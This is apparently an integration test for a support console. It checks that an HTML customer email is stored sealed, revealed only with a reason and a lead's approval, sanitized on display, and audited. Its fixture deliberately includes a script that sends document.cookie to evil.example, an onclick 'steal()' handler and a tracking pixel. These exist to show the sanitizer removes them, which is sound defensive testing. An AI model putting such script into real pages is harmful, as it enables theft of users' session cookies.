import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { newSessionSlot } from '../../../main/core/auth';
import { DATABASE_FILE, type Core } from '../../../main/core/app';
import type { ChannelConfig } from '../../../main/core/connectors';
import { createMainDispatch, type CallContext } from '../../../main/ipc';
import { fastTime, putSecrets, storedMessages, testRuntime, until } from '../../helpers/connectors';
import { addPeople, PEOPLE } from '../../helpers/console';
import { testCore } from '../../helpers/core';
import { exportGrant } from '../../helpers/store';
import { Dovecot, rawMail } from '../../helpers/mail-servers';
import { tmpDir } from '../../helpers/tmp';

let cleanup: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const c of cleanup.reverse()) await c();
  cleanup = [];
});

const CARD = '4111 1111 1111 1111';
const OTP = '482913';
const HTML = `<html><head><title>Statement</title><style>p{color:red}</style></head><body>
<p style="font-weight:bold" onclick="steal()">Hello, my card <b>${CARD}</b> was charged twice.</p>
<p>Your verification code is ${OTP}.</p>
<img src="https://track.example/pixel.gif?u=layla" width="1" height="1">
<p dir="rtl">شكراً لكم</p>
<a href="https://acme-refunds.example/claim">Claim refund</a>
<script>fetch('https://evil.example/'+document.cookie)</script>
</body></html>`;

/**
 * A single seat: an HTML e-mail fetched from a real Dovecot is stored with its HTML sealed to the console's in-process
 * custodian (keys under the real keychain), and a lead-approved "whole original" reveal shows it rendered safely.
 */
describe('the HTML original of an e-mail in a single seat', () => {
  it('is sealed at ingest, revealed only with a reason and a lead\'s approval, as a safe document, and audited', async () => {
    const time = fastTime(1);
    const imap = await Dovecot.start();
    const dataDir = tmpDir();
    const core: Core = await testCore({ dataDir, clock: time.clock });
    core.store.channels.create({ id: 'mail', kind: 'email', name: 'Support mailbox' });
    await putSecrets(core, 'mail', { username: imap.user, password: imap.password });
    const config: ChannelConfig = {
      id: 'mail',
      kind: 'email',
      settings: { address: 'support@acme.test', imapHost: '127.0.0.1', imapPort: imap.port, imapSecurity: 'plain', smtpHost: '127.0.0.1', smtpPort: 9, smtpSecurity: 'plain', idleMs: 20_000 },
    };
    const { runtime } = testRuntime(core, time, [config]);
    cleanup.push(() => core.close(), () => imap.stop(), () => runtime.stop());
    await addPeople(core);
    await imap.append([rawMail({ from: 'Layla Haddad <layla@customer.test>', subject: 'Charged twice', messageId: 'h1@customer.test', html: HTML })]);
    runtime.start();
    await until(() => storedMessages(core, 'mail').length === 1, 'the HTML mail stored', 20_000);

    // Stored: the safe text masked for the view, the HTML sealed as the message's last field, nothing readable on disk.
    const original = core.db.prepare("SELECT n, type, value_enc, key_version FROM message_fields WHERE type = 'ORIGINAL'").get() as { n: number; value_enc: Buffer; key_version: number };
    expect(original).toMatchObject({ type: 'ORIGINAL', key_version: 0 });
    expect(original.value_enc.toString('latin1')).not.toContain('track.example');
    const onDisk = fs.readdirSync(dataDir).filter((f) => f.startsWith(DATABASE_FILE));
    expect(onDisk).toContain(DATABASE_FILE);
    for (const f of onDisk) {
      const bytes = fs.readFileSync(path.join(dataDir, f));
      expect(bytes.includes(Buffer.from('track.example')), f).toBe(false);
      expect(bytes.includes(Buffer.from(CARD)), f).toBe(false);
    }

    const d = createMainDispatch(core);
    const as = async (who: keyof typeof PEOPLE) => {
      const ctx: CallContext = { trustedSender: true, session: newSessionSlot() };
      const call = (channel: string, request: unknown) => d(channel, request, ctx);
      const r = await call('signIn', { username: PEOPLE[who].username, password: PEOPLE[who].password });
      if (!r.ok) throw new Error(r.error.message);
      return call;
    };
    const agent = await as('agent');
    const lead = await as('lead');
    const conversationId = Number(core.db.prepare("SELECT id FROM conversations WHERE channel_id = 'mail'").pluck().get());
    const opened = (await agent('openConversation', { conversationId })) as { ok: true; value: { messages: Array<{ id: number; segments: Array<{ kind: string; type?: string }>; original?: { fieldIndex: number; revealable: boolean } }> } };
    const m = opened.value.messages[0]!;
    expect(m.original).toEqual({ fieldIndex: original.n, revealable: true });
    // The whole original is not a chip in the text: the view draws only the masked fields.
    expect(m.segments.filter((s) => s.kind === 'field').map((s) => s.type)).not.toContain('ORIGINAL');
    expect(JSON.stringify(opened)).not.toContain(CARD);

    // A reason is required; by default a whole original needs a lead's approval, and nothing is shown before it.
    expect(await agent('requestReveal', { messageId: m.id, fieldIndex: original.n, reason: '..' })).toMatchObject({ ok: false, error: { code: 'reason_required' } });
    const asked = (await agent('requestReveal', { messageId: m.id, fieldIndex: original.n, reason: 'Customer says the refund link in the mail is ours' })) as { ok: true; value: { status: string; requestId: string } };
    expect(asked.value).toMatchObject({ status: 'pending', fieldType: 'ORIGINAL' });
    expect(await agent('readReveal', { grantId: asked.value.requestId })).toMatchObject({ ok: false, error: { code: 'reveal_pending' } });
    const waiting = (await lead('listRevealApprovals', {})) as { ok: true; value: { requests: Array<{ requestId: string; fieldType: string }> } };
    expect(waiting.value.requests).toContainEqual(expect.objectContaining({ requestId: asked.value.requestId, fieldType: 'ORIGINAL' }));
    expect(await lead('decideReveal', { requestId: asked.value.requestId, approve: true })).toMatchObject({ ok: true, value: { status: 'granted' } });

    const shown = (await agent('readReveal', { grantId: asked.value.requestId })) as { ok: true; value: { value: string; fieldType: string; expiresAt: number } };
    expect(shown.ok).toBe(true);
    const view = shown.value.value;
    // Unmasked, because this reveal's scope is the whole original — except the one-time code, which nothing reveals.
    expect(view).toContain(CARD);
    expect(view).not.toContain(OTP);
    expect(view).toContain('⟦OTP⟧');
    expect(view).toContain('شكراً لكم');
    expect(view).toContain('Claim refund</span> <span class="href">&lt;https://acme-refunds.example/claim&gt;</span>');
    expect(view).toContain(`content="default-src 'none'"`);
    expect(view).not.toMatch(/<script|<img|<a |onclick|style="|track\.example|evil\.example|Statement/);

    // Audited like a field reveal: requested, approved (with the type), and opened in the custodian's own log.
    await core.auditTrail.flush();
    const trail = core.auditTrail.list({ newestFirst: false, limit: 100 });
    expect(trail).toContainEqual(expect.objectContaining({ action: 'reveal.requested', actor: PEOPLE.agent.username, target: `message:${m.id}#${original.n}`, details: expect.objectContaining({ type: 'ORIGINAL' }) }));
    expect(trail).toContainEqual(expect.objectContaining({ action: 'reveal.approved', actor: PEOPLE.lead.username, details: expect.objectContaining({ type: 'ORIGINAL', requestedBy: PEOPLE.agent.username }) }));
    expect(JSON.stringify(trail)).not.toContain(CARD);
    const log = fs.readFileSync(path.join(dataDir, 'custody', 'custodian.log'), 'utf8');
    expect(log).toMatch(/"event":"reveal.opened"[^\n]*"type":"ORIGINAL"|"type":"ORIGINAL"[^\n]*"event":"reveal.opened"/);
    expect(log).not.toContain(CARD);

    // The customer's data-subject export carries the HTML as sent (opened by the custodian for the export grant).
    const contactId = Number(core.db.prepare("SELECT contact_id FROM conversations WHERE channel_id = 'mail'").pluck().get());
    const exported = core.store.subjects.export({ contactId }, 'dana', exportGrant(core.store));
    expect(exported.conversations[0]!.messages[0]!.html).toContain(`<b>${CARD}</b>`);
  }, 60_000);
});
